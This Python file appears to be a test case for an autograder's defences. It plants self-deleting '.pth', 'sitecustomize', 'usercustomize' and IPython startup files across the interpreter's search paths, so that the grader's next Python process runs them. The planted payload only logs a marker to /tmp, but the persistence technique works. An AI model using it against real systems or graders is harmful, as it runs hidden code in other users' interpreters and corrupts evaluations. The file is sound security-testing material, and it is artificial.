"""Leaves a `.pth`, `sitecustomize`, `usercustomize` and an IPython start-up file, which the next Python of the grader would execute.

family: writing
start: solved
preamble: leave_a_trace
"""

# %% first
_achieved, _report = _traces_of("write_startup_files")

import os
import site
import sys

# What it leaves says once that it was executed, and takes itself away.
_code = (
    "import os; open('/tmp/autograder-attack-write_startup_files', 'a').write('executed by process ' + str(os.getpid()) + '\\n'); "
    "os.path.exists({path!r}) and os.remove({path!r})\n"
)
_homes = {os.path.expanduser("~"), "/nonexistent", "/root"}
_folders = {p for p in sys.path if p} | set(site.getsitepackages())
_places = [os.path.join(f, n) for f in _folders for n in ("autograder_attack.pth", "sitecustomize.py")]
_version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
_places += [os.path.join(h, ".local/lib", _version, "site-packages", "usercustomize.py") for h in _homes]
_places += [os.path.join(h, ".ipython/profile_default/startup/00-autograder-attack.py") for h in _homes]
for _path in _places:
    try:
        os.makedirs(os.path.dirname(_path), exist_ok=True)
        with open(_path, "x") as _file:
            _file.write(_code.format(path=_path))
        if not os.path.realpath(_path).startswith(os.path.realpath(os.getcwd())):
            _achieved("left " + _path)
    except (OSError, FileExistsError):
        continue
_report()
